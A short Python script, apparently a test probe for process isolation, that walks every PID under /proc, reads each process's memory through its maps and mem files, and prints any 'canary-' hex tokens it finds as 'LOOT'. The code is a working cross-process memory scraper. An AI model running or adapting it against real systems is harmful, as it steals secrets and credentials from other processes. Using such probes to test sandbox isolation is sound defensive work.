# ruff: noqa
"""The memory of all processes in /proc."""

# %% after imports
import os
import re

token = re.compile(rb"canary-[0-9a-f]{16}")
tried = 0
for number in {*os.listdir("/proc"), str(os.getppid()), "@PID@", "1"}:
    if not number.isdigit() or int(number) == os.getpid():
        continue
    tried += 1
    try:
        maps = open(f"/proc/{number}/maps").read().splitlines()
        memory = open(f"/proc/{number}/mem", "rb")
    except OSError:
        continue
    for line in maps:
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        try:
            memory.seek(start)
            for found in token.findall(memory.read(min(end - start, 2**26))):
                print("LOOT:", number, found)
        except (OSError, ValueError):
            pass
print("TRIED", tried)
